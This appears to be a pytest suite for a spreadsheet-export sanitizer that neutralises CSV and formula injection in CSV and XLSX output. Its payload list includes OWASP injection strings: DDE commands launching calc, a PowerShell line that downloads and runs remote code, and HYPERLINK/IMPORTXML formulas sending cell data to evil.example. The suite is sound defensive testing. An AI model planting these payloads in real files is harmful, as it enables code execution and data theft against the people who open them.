"""Tests for safe_files: OWASP CSV-injection payloads, typed .xlsx cells and round-trip properties."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import decimal
import io
import re
import unicodedata

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.exceptions import IllegalCharacterError

from analytics.export import safe_files
from analytics.export.safe_files import needs_prefix, neutralise, sheet_title, to_csv_bytes, to_xlsx_bytes

# Written independently of the module, so the property tests do not just repeat its code.
TEST_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\u2212\ufe62\ufe63\ufe66\ufe6b")
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
OOXML_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")

# (payload, needs the apostrophe?) -- OWASP CSV Injection payloads plus known bypasses.
PAYLOADS: list[tuple[str, bool]] = [
    ("=1+1", True),
    ("+1+1", True),
    ("-1+1", True),
    ("@SUM(1+1)", True),
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', True),
    ("=cmd|' /C calc'!A0", True),
    ("=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", True),
    ("@SUM(1+9)*cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!E2", True),
    ('=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")', True),
    ('=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', True),
    ('DDE ("cmd";"/C calc";"!A0")A0', False),  # inert without a leading sign; still must not inject a field or a formula
    ("\t=1+1", True),
    ("\thello", True),
    ("\r=1+1", True),
    ("\n=1+1", True),
    ("\r\n@SUM(1)", True),
    ("\x00=1+1", True),
    (" =1+1", True),
    ("   @SUM(1)", True),
    ("\u00a0=1+1", True),
    ("\u2007=1+1", True),
    ("\u202f+1", True),
    ("\u3000-1", True),
    ("\u00a0 \u2007\u202f=1+1", True),
    ("\u200b=1+1", True),
    ("\ufeff=1+1", True),
    ("\u202e=1+1", True),
    ("\uff1d1+1", True),
    ("\uff0b1", True),
    ("\uff0d1", True),
    ("\uff20SUM(1)", True),
    ("\u22121", True),
    ("\ufe621", True),
    ("\ufe631", True),
    ("\ufe661+1", True),
    ("\ufe6bSUM(1)", True),
    ("\u207a1", True),
    ("\u208c1", True),
    ("note\n=1+1", True),
    ("note\r\n@SUM(1)", True),
    ("note\r-1", True),
    ("note\n  +1", True),
    ("note\u2028=1", True),
    ("note\t=1+1", True),
    ("note\n\u00a0\uff1d1", True),
    ("=1+1,2;3", True),
    ('=HYPERLINK("a,b;c")', True),
    ("-2", True),  # number-like text in a text column is still text
    ("+44 20 7946 0000", True),
    ('he said "=1+1"', False),
    ("x,=1+1;y", False),
    ("a;b,c", False),
    ("hello", False),
    ("2026-01-01 notes", False),
    ("a=b", False),
    ("100%", False),
    ("'=1+1", False),  # already forced to text
    ("note\nline two", False),
    ("\u2013 en dash note", False),
    ("_x003D_1+1", False),
    ("", False),
    ("   ", False),
]
PAYLOAD_IDS = [ascii(text)[1:41] or "empty" for text, _ in PAYLOADS]


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def load_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def excel_view(value: object) -> str:
    """What Excel displays for a stored string: it decodes _xHHHH_ left to right (ECMA-376 22.4.2.4)."""
    return OOXML_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), str(value or ""))


def starts_with_trigger(cell: str) -> bool:
    if cell[:1] in ("\t", "\r", "\n", "\x00"):
        return True
    index = 0
    while index < len(cell) and (cell[index].isspace() or unicodedata.category(cell[index]) in ("Zs", "Zl", "Zp", "Cc", "Cf")):
        index += 1
    return cell[index : index + 1] in TEST_SIGNS


def expected(text: str, prefixed: bool) -> str:
    return "'" + text if prefixed else text


def payload_frame(text: str) -> pd.DataFrame:
    return pd.DataFrame({"id": [7], "text": [text], "lift": [-2]})


def assert_no_formulas(workbook: openpyxl.Workbook) -> None:
    for sheet in workbook:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize(("text", "prefixed"), PAYLOADS, ids=PAYLOAD_IDS)
def test_payload_csv(text: str, prefixed: bool) -> None:
    rows = parse_csv(to_csv_bytes(payload_frame(text)))
    assert rows[0] == ["id", "text", "lift"]
    assert len(rows) == 2 and len(rows[1]) == 3  # no row or field injected
    ident, cell, lift = rows[1]
    assert (ident, lift) == ("7", "-2")
    assert cell == expected(text, prefixed)
    assert (cell[1:] if prefixed else cell) == text
    assert not starts_with_trigger(cell)


@pytest.mark.parametrize(("text", "prefixed"), PAYLOADS, ids=PAYLOAD_IDS)
def test_payload_xlsx(text: str, prefixed: bool) -> None:
    workbook = load_xlsx(to_xlsx_bytes({"data": payload_frame(text)}))
    assert_no_formulas(workbook)
    sheet = workbook["data"]
    assert [cell.value for cell in sheet[1]] == ["id", "text", "lift"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.max_row == 2
    assert excel_view(sheet["B2"].value) == XML_ILLEGAL.sub("", expected(text, prefixed))
    assert sheet["A2"].value == 7 and sheet["C2"].value == -2 and sheet["C2"].data_type == "n"


def test_neutralise_examples() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("ok\n=1+1") == "'ok\n=1+1"
    assert neutralise("hello") == "hello"
    assert neutralise("'=1+1") == "'=1+1"
    assert neutralise(neutralise("ok\n-1")) == "'ok\n-1"


def test_csv_format_bom_crlf_quoting() -> None:
    data = to_csv_bytes(pd.DataFrame({"text": ['he said "=1+1"', "=1+1"], "lift": [-2, 3]}))
    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig") == '"text","lift"\r\n"he said ""=1+1""",-2\r\n"\'=1+1",3\r\n'


def test_header_is_neutralised_and_index_dropped() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1]}, index=["=idx"])
    rows = parse_csv(to_csv_bytes(frame))
    assert rows == [["'=cmd|' /C calc'!A0"], ["1"]]
    assert load_xlsx(to_xlsx_bytes({"s": frame}))["s"]["A1"].value == "'=cmd|' /C calc'!A0"


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "int": [-2, 5],
            "float": [-2.5, float("nan")],
            "Int64": pd.array([-2, None], dtype="Int64"),
            "Float64": pd.array([-0.25, None], dtype="Float64"),
            "bool": [True, False],
            "inf": [float("inf"), float("-inf")],
        }
    )
    lines = to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines[1:] == ['-2,-2.5,-2,-0.25,True,"inf"', '5,"","","",False,"\'-inf"']  # -2 bare; NA empty; -inf is text
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame.drop(columns="inf"))))
    assert back["int"].tolist() == [-2, 5] and back["bool"].tolist() == [True, False]
    assert back["Int64"].iloc[0] == -2 and pd.isna(back["Int64"].iloc[1])
    sheet = load_xlsx(to_xlsx_bytes({"n": frame}))["n"]
    assert [cell.value for cell in sheet[2]] == [-2, -2.5, -2, -0.25, True, "inf"]
    assert [cell.data_type for cell in sheet[2]][:5] == ["n", "n", "n", "n", "b"]
    assert [cell.value for cell in sheet[3]] == [5, None, None, None, False, "'-inf"]


def test_object_column_with_mixed_values() -> None:
    values = [1, -2.5, "=1+1", "-2", True, None, decimal.Decimal(-3), dt.date(2026, 1, 2)]
    frame = pd.DataFrame({"mixed": values}, dtype=object)
    assert [row[0] for row in parse_csv(to_csv_bytes(frame))[1:]] == ["1", "-2.5", "'=1+1", "'-2", "True", "", "-3", "2026-01-02"]
    lines = to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines[2] == "-2.5" and lines[4] == '"\'-2"'  # numbers bare, text quoted
    sheet = load_xlsx(to_xlsx_bytes({"m": frame}))["m"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells[:5]] == [1, -2.5, "'=1+1", "'-2", True]
    assert cells[5].value is None and cells[6].value == -3 and cells[6].data_type == "n" and cells[7].is_date


def test_dates_are_iso_and_date_cells() -> None:
    stamps = pd.to_datetime(["2026-01-01 10:30:00", None])
    frame = pd.DataFrame(
        {
            "day": pd.to_datetime(["2026-01-01", None]),
            "at": stamps,
            "tz": stamps.tz_localize("Europe/Paris"),
            "pydate": pd.Series([dt.date(2026, 3, 4), None], dtype=object),
        }
    )
    assert parse_csv(to_csv_bytes(frame))[1:] == [
        ["2026-01-01", "2026-01-01 10:30:00", "2026-01-01 10:30:00+01:00", "2026-03-04"],
        ["", "", "", ""],
    ]
    sheet = load_xlsx(to_xlsx_bytes({"d": frame}))["d"]
    day, at, tz, pydate = sheet[2]
    assert day.is_date and day.value == dt.datetime(2026, 1, 1) and day.number_format == "yyyy-mm-dd"
    assert at.is_date and at.value == dt.datetime(2026, 1, 1, 10, 30) and at.number_format == "yyyy-mm-dd hh:mm:ss"
    assert tz.data_type == "s" and tz.value == "2026-01-01 10:30:00+01:00"  # Excel has no time zones: kept as text
    assert pydate.is_date and pydate.value == dt.datetime(2026, 3, 4)


def test_illegal_xml_characters_are_stripped() -> None:
    with pytest.raises(IllegalCharacterError):  # what plain openpyxl would do
        openpyxl.Workbook().active["A1"] = "a\x01b"
    frame = pd.DataFrame({"bad\x07name": ["a\x01b\x1fc\x0bd", "\x01=1+1"]})
    sheet = load_xlsx(to_xlsx_bytes({"s": frame}))["s"]
    assert [sheet["A1"].value, sheet["A2"].value, sheet["A3"].value] == ["badname", "abcd", "'=1+1"]


def test_ooxml_escape_sequences_cannot_smuggle_a_formula() -> None:
    texts = ["_x003D_1+1", "_x0041_x0042_", "a\r\nb", "snake_x_case"]
    sheet = load_xlsx(to_xlsx_bytes({"s": pd.DataFrame({"t": texts})}))["s"]
    stored = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert stored[0] == "_x005F_x003D_1+1"
    assert [excel_view(value) for value in stored] == texts


def test_sheet_titles_follow_excel_rules() -> None:
    used: set[str] = set()
    titles = [
        sheet_title(name, used) for name in ["a/b:c*d?e[f]g\\h" * 3, "a/b:c*d?e[f]g\\h" * 3, "Data", "data", "History", "'q'", ""]
    ]
    assert all(len(title) <= 31 and not re.search(r"[\[\]:*?/\\]", title) for title in titles)
    assert len({title.casefold() for title in titles}) == len(titles)
    assert titles[2:] == ["Data", "data (2)", "History_", "q", "Sheet"]
    frames = {"=x" * 20: pd.DataFrame({"a": [1]}), "=x" * 21: pd.DataFrame({"a": [2]})}
    assert load_xlsx(to_xlsx_bytes(frames)).sheetnames == ["=x=x=x=x=x=x=x=x=x=x=x=x=x=x=x=", "=x=x=x=x=x=x=x=x=x=x=x=x=x= (2)"]


def test_lone_surrogates_in_object_columns() -> None:
    frame = pd.DataFrame({"t": ["a\ud800b", "\ud800=1"]}, dtype=object)
    assert parse_csv(to_csv_bytes(frame))[1:] == [["a?b"], ["?=1"]]  # replaced, and "?" is not a trigger
    sheet = load_xlsx(to_xlsx_bytes({"s": frame}))["s"]
    assert [sheet["A2"].value, sheet["A3"].value] == ["ab", "'=1"]


def test_edge_frames() -> None:
    with pytest.raises(ValueError):
        to_xlsx_bytes({})
    empty = pd.DataFrame({"a": pd.Series([], dtype="str"), "b": pd.Series([], dtype="int64")})
    assert parse_csv(to_csv_bytes(empty)) == [["a", "b"]]
    duplicate = pd.DataFrame([[1, "=2"]], columns=["x", "x"])
    assert parse_csv(to_csv_bytes(duplicate)) == [["x", "x"], ["1", "'=2"]]
    assert [cell.value for cell in load_xlsx(to_xlsx_bytes({"s": duplicate}))["s"][2]] == [1, "'=2"]


TRICKY = st.sampled_from(
    list("=+-@\t\r\n\x00 ,;\"'_x\u00a0\u2007\u202f\u200b\u2028\uff1d\uff0b\uff0d\uff20\u2212\ufe63") + ["_x003D_", "\r\n"]
)
# A pandas "str" column (pyarrow) cannot hold lone surrogates at all; those are covered by test_lone_surrogates.
TEXT = st.lists(st.one_of(st.characters(exclude_categories=("Cs",)), TRICKY), max_size=12).map("".join)


@given(st.lists(TEXT, min_size=1, max_size=5))
def test_property_csv_round_trip(texts: list[str]) -> None:
    frame = pd.DataFrame({"n": range(len(texts)), "text": texts, "x": [-2.5] * len(texts)})
    rows = parse_csv(to_csv_bytes(frame))
    assert len(rows) == len(texts) + 1 and all(len(row) == 3 for row in rows)
    for index, (text, row) in enumerate(zip(texts, rows[1:], strict=True)):
        cell = row[1]
        added = neutralise(text) != text
        assert (cell[1:] if added else cell) == text
        assert not starts_with_trigger(cell)
        assert row[0] == str(index) and row[2] == "-2.5"


@given(TEXT)
def test_property_neutralise(text: str) -> None:
    result = neutralise(text)
    assert result in (text, "'" + text)
    assert neutralise(result) == result
    assert needs_prefix(text) == (result != text)
    if starts_with_trigger(text):
        assert result == "'" + text
    assert not starts_with_trigger(result)


@settings(max_examples=40, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=4))
def test_property_xlsx_text_is_never_a_formula(texts: list[str]) -> None:
    sheet = load_xlsx(to_xlsx_bytes({"s": pd.DataFrame({"text": texts, "x": [-2] * len(texts)})}))["s"]
    assert_no_formulas(sheet.parent)
    for text, (cell, number) in zip(texts, sheet.iter_rows(min_row=2), strict=True):
        shown = excel_view(cell.value)
        assert shown == neutralise(XML_ILLEGAL.sub("", text))
        assert not starts_with_trigger(shown)
        assert number.value == -2


# --- The column-wise CSV path (a million rows in seconds) writes exactly what the cell-by-cell path of the spike did ---


def cell_by_cell_csv(frame: pd.DataFrame) -> bytes:
    """The spike's writer: every value classified on its own (slow, and the reference for the column-wise one)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([neutralise(str(name)) for name in frame.columns])
    writer.writerows([safe_files._csv_field(value) for value in row] for row in safe_files._rows(frame))
    return buffer.getvalue().encode("utf-8-sig", errors="replace")


NUMBERS = st.one_of(st.integers(-(2**53), 2**53), st.floats(allow_nan=True, allow_infinity=True))


@st.composite
def typed_frames(draw: st.DrawFn) -> pd.DataFrame:
    rows = draw(st.integers(0, 6))
    ints = draw(st.lists(st.integers(-(2**62), 2**62), min_size=rows, max_size=rows))
    maybe_ints = draw(st.lists(st.one_of(st.none(), st.integers(-1000, 1000)), min_size=rows, max_size=rows))
    floats = draw(st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=rows, max_size=rows))
    flags = draw(st.lists(st.booleans(), min_size=rows, max_size=rows))
    maybe_flags = draw(st.lists(st.one_of(st.none(), st.booleans()), min_size=rows, max_size=rows))
    texts = draw(st.lists(st.one_of(st.none(), TEXT), min_size=rows, max_size=rows))
    days = draw(st.lists(st.one_of(st.none(), st.dates(dt.date(1990, 1, 1), dt.date(2090, 1, 1))), min_size=rows, max_size=rows))
    stamps = draw(st.lists(st.one_of(st.none(), st.datetimes(dt.datetime(1990, 1, 1), dt.datetime(2090, 1, 1))),
                           min_size=rows, max_size=rows))
    mixed = draw(st.lists(st.one_of(st.none(), TEXT, NUMBERS, st.booleans()), min_size=rows, max_size=rows))
    return pd.DataFrame({
        "int": pd.Series(ints, dtype="int64"),
        "Int64": pd.Series(maybe_ints, dtype="Int64"),
        "float": pd.Series(floats, dtype="float64"),
        "bool": pd.Series(flags, dtype="bool"),
        "boolean": pd.Series(maybe_flags, dtype="boolean"),
        "str": pd.Series(texts, dtype="str"),
        "day": pd.Series(pd.to_datetime(days)),
        "at": pd.Series(pd.to_datetime(stamps)),
        "at_tz": pd.Series(pd.to_datetime(stamps)).dt.tz_localize("UTC").dt.tz_convert("Europe/London"),
        "pydate": pd.Series(days, dtype=object),
        "mixed": pd.Series(mixed, dtype=object),
    })


@settings(max_examples=150, deadline=None)
@given(typed_frames())
def test_column_wise_csv_equals_cell_by_cell(frame: pd.DataFrame) -> None:
    assert to_csv_bytes(frame) == cell_by_cell_csv(frame)


@settings(max_examples=40, deadline=None)
@given(typed_frames(), st.integers(1, 4))
def test_write_csv_in_chunks_equals_one_frame(frame: pd.DataFrame, size: int) -> None:
    # (a naive datetime column is written as dates when all its times are midnight: decided per chunk, so left out)
    frame = frame.drop(columns="at")
    chunks = [frame.iloc[start:start + size] for start in range(0, len(frame), size)] or [frame]
    target = io.BytesIO()
    assert safe_files.write_csv(target, chunks) == len(frame)
    assert target.getvalue() == to_csv_bytes(frame)


def test_write_csv_needs_a_header() -> None:
    with pytest.raises(ValueError):
        safe_files.write_csv(io.BytesIO(), [])


@pytest.mark.parametrize("text", ["a\x85=1", "a\u2028=1", "a\u2029+1", "a\x1c=1", "a\x1d-1", "a\x1e@1", "a\v=1", "a\f=1",
                                  "a\r\n=1", "Z\t=1", "9\n+1"])
def test_a_text_column_with_a_sign_after_any_break_gets_the_apostrophe(text: str) -> None:
    frame = pd.DataFrame({"text": pd.Series([text, "plain"], dtype="str")})
    assert parse_csv(to_csv_bytes(frame))[1:] == [["'" + text], ["plain"]]


ARROW_COLUMNS = ["int", "Int64", "bool", "boolean", "str", "pydate", "at_tz", "float", "mixed"]


@settings(max_examples=80, deadline=None)
@given(typed_frames(), st.integers(1, 4))
def test_arrow_batches_from_the_store_write_what_pandas_frames_do(frame: pd.DataFrame, size: int) -> None:
    # The exports read DuckDB's rows as Arrow batches: the same table must give the same bytes.
    frame = frame[ARROW_COLUMNS].assign(mixed=frame["mixed"].map(lambda v: None if v is None else str(v)))
    table = pa.Table.from_pandas(frame, preserve_index=False)
    assert pa.types.is_date32(table.schema.field("pydate").type) or len(frame) == 0 or frame["pydate"].isna().all()
    target = io.BytesIO()
    assert safe_files.write_csv(target, table.to_batches(max_chunksize=size) or [table]) == len(frame)
    assert target.getvalue() == cell_by_cell_csv(frame)


def test_a_frame_without_columns_writes_only_its_empty_header_like_the_cell_by_cell_writer() -> None:
    frame = pd.DataFrame(index=range(3))
    assert to_csv_bytes(frame) == cell_by_cell_csv(frame) == codecs.BOM_UTF8 + b"\r\n"


def test_nanosecond_instants_are_written_to_the_microsecond() -> None:
    stamps = pd.Series(pd.to_datetime(["2026-03-29 01:30:05.123456789"]).tz_localize("UTC")).dt.tz_convert("Europe/London")
    table = pa.table({"at": pa.array(stamps)})
    assert table.schema.field("at").type.unit == "ns"
    target = io.BytesIO()
    safe_files.write_csv(target, [table])
    assert parse_csv(target.getvalue())[1] == ["2026-03-29 02:30:05.123456+01:00"]
